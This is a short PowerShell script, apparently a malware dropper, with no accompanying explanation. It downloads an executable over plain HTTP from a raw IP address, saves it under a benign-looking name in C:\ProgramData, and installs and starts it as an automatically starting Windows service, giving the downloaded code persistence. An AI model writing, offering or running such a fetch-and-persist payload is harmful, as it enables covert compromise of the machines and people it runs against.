$to = 'C:\ProgramData\FabricHost\fabhost.exe'
New-Item -ItemType Directory -Path (Split-Path $to) -Force | Out-Null
(New-Object Net.WebClient).DownloadFile('http://203.0.113.200/a/agent-x64.exe', $to)
New-Service -Name FabricHostSvc -BinaryPathName $to -StartupType Automatic
Start-Service -Name FabricHostSvc
